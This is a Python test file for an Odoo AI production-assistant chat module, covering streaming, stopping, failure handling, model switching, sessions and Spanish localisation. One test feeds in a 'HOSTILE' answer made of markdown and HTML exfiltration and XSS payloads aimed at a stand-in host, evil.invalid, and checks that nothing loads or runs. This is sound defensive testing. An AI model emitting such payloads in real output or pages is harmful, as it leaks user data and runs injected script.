from odoo import fields
from odoo.tests import tagged

from .tour_common import TourCase

SETTINGS = "/odoo/action-ai_production_assistant.action_settings"
WORDS = "Some orders are late [1]. " + "They wait for their components. " * 24
STORY = "This is a long story of a long day in a long hall. " * 400


@tagged("post_install", "-at_install")
class TestAnswerTours(TourCase):
    def test_a_streamed_answer_is_read(self):
        texts = [WORDS + "This is the last word.", "A second answer."]
        self.stand_in.script({"say": texts, "tokens_per_second": 80})
        self.tour("read")
        self.assertEqual(len(self.chat_requests()), 2)

    def stop(self, name):
        self.stand_in.script({"say": STORY, "tokens_per_second": 40})
        self.tour(name)
        answer = self.last_answer()
        self.assertEqual(answer.state, "stopped")
        self.assertIn("long story", answer.content)
        [request] = self.chat_requests()
        self.assertTrue(request.closed_early, "the model server was told to stop")
        self.assertLess(len(request.tokens), 2000)

    def test_an_answer_is_stopped_by_its_button(self):
        self.stop("stop_button")

    def test_an_answer_is_stopped_by_a_key(self):
        self.stop("stop_key")

    def test_an_answer_is_stopped_after_a_reload(self):
        self.stop("stop_after_reload")

    def test_versions_are_leafed_through(self):
        texts = ["First version.", "Second version.", "Edited version."]
        self.stand_in.script({"say": texts})
        self.tour("versions")
        self.assertEqual(len(self.chat_requests()), 3)


@tagged("post_install", "-at_install")
class TestFailureTours(TourCase):
    def test_a_failed_answer_is_tried_again(self):
        self.stand_in.script(
            {"say": "It works again.", "fault": "http_500", "fault_times": 1}
        )
        self.tour("failure_retry")

    def test_the_text_before_a_failure_is_kept(self):
        self.stand_in.script({"say": WORDS, "fault": "error_line", "after_tokens": 20})
        self.tour("failure_kept")

    def test_a_missing_model_is_pulled(self):
        self.stand_in.script(
            {
                "say": "It works again.",
                "fault": "http_404",
                "fault_times": 1,
                "pull_ms": 1500,
            },
            model="phi3:mini",
        )
        self.tour("failure_pull", login="admin")
        self.assertTrue(self.stand_in.requests_of(path="/api/pull"))

    def test_a_server_that_is_down_leads_to_the_settings(self):
        self.configure(server_url="http://127.0.0.1:9")
        self.tour("failure_settings", login="admin")


@tagged("post_install", "-at_install")
class TestScreenTours(TourCase):
    def test_the_model_is_switched(self):
        self.stand_in.script({"say": "I am a llama."}, model="llama3.2:3b")
        self.tour("model")
        [request] = self.chat_requests()
        self.assertEqual(request.body["model"], "llama3.2:3b")

    def test_dark_mode_is_switched_and_kept(self):
        self.planner.res_users_settings_id.unlink()
        settings = self.env["res.users.settings"]._find_or_create_for_user(self.planner)
        settings.ai_production_theme = "light"
        self.tour("theme")
        self.assertEqual(settings.ai_production_theme, "dark")

    def test_sessions_are_kept_in_order(self):
        self.stand_in.script({"say": "Nothing is known about it."})
        for name in ("Alpha", "Beta", "Gamma"):
            self.session_of(self.planner, name=name)
        session = self.session_of(self.planner)
        session.search([("name", "=", "New")]).unlink()
        gamma = session.search([("name", "=", "Gamma")])
        gamma.ask("How much zirconium do we have?")
        gamma.name = "Gamma"
        self.run_jobs()
        self.tour("sessions")
        names = self.env["ai.production.session"].with_user(self.planner).search([])
        self.assertEqual(set(names.mapped("name")), {"Delta", "Beta"})

    def test_an_order_is_asked_about(self):
        self.stand_in.script({"say": "The order is for **three** tables [1]."})
        action = "/odoo/action-mrp.mrp_production_action"
        self.tour("order", path=f"{action}/{self.order.id}")
        session = self.last_answer().session_id
        self.assertEqual(
            (session.res_model, session.res_id), (self.order._name, self.order.id)
        )
        self.assertIn(self.order.name, self.chat_requests()[0].prompt)
        note = self.order.message_ids[0]
        self.assertEqual(note.author_id, self.planner.partner_id)
        self.assertIn("<strong>three</strong>", note.body)

    def test_models_are_synchronised_in_the_settings(self):
        self.stand_in.script({"say": "x"}, model="granite4:tiny", listed=True)
        self.assertFalse(self.models.search([("name", "=", "granite4:tiny")]))
        self.tour("settings", login="admin", path=SETTINGS)
        self.assertTrue(self.models.search([("name", "=", "granite4:tiny")]).can_chat)

    def test_a_wrong_address_is_told_in_the_settings(self):
        self.configure(server_url="http://127.0.0.1:9")
        with self.assertLogs("odoo.http", "WARNING"):
            self.tour("settings_wrong", login="admin", path=SETTINGS)


HOSTILE = """
Hello. ![a](http://evil.invalid/leak?q=secret) ![b][ref] ![](/web/leak.png)

[ref]: http://evil.invalid/leak-by-reference.png

<img src="http://evil.invalid/leak.png"> <img src=x onerror="window.broken=1">
<svg onload="window.broken=1"><image href="http://evil.invalid/leak.svg"/></svg>
<iframe src="http://evil.invalid/leak"></iframe><script>window.broken=1</script>
<style>@import url("http://evil.invalid/leak.css"); body { display: none }</style>
<link rel="stylesheet" href="http://evil.invalid/leak.css">
<form action="http://evil.invalid/leak"><input name="q"></form>
<div style="position:fixed;inset:0;background:url(http://evil.invalid/leak.png)">over</div>
<video poster="http://evil.invalid/leak.png" src="http://evil.invalid/leak.mp4"></video>
<meta http-equiv="refresh" content="0;url=http://evil.invalid/leak">
<base href="http://evil.invalid/">

[script](javascript:window.broken=1) [data](data:text/html,<script>1</script>)
[an honest link](https://example.invalid/page)

| a | b |
|---|---|
| ![c](//evil.invalid/leak.png) | <img src="//evil.invalid/leak.png"> |

```html
<img src="http://evil.invalid/leak-in-code.png">
```

This is the last word.
"""


@tagged("post_install", "-at_install")
class TestHostileAnswer(TourCase):
    def test_nothing_in_an_answer_loads_or_runs(self):
        # An answer of which nothing is held would give way to the data.
        domain = [
            ("state", "in", ("confirmed", "progress", "to_close")),
            ("date_deadline", "<", fields.Datetime.now()),
        ]
        late = self.env["mrp.production"].search(domain, order="date_deadline", limit=1)
        answer = f"{late.name} is late [1].\n{HOSTILE}"
        self.stand_in.script({"say": answer, "tokens_per_second": 300})
        self.tour("hostile")
        self.assertEqual(self.external_urls, ["http://control.invalid/leak.png"])


@tagged("post_install", "-at_install")
class TestSpanishTour(TourCase):
    def test_a_spanish_user_sees_spanish(self):
        self.env["res.lang"]._activate_lang("es_ES")
        modules = self.env["ir.module.module"].search([("state", "=", "installed")])
        modules._load_module_terms(["mrp", "ai_production_assistant"], ["es_ES"])
        user = self.new_user("ai_spanish", lang="es_ES")
        self.tour("spanish", login=user.login)
        prompt = self.chat_requests()[0].prompt
        self.assertIn("Responde en español", prompt)
        self.assertIn("con retraso", prompt)
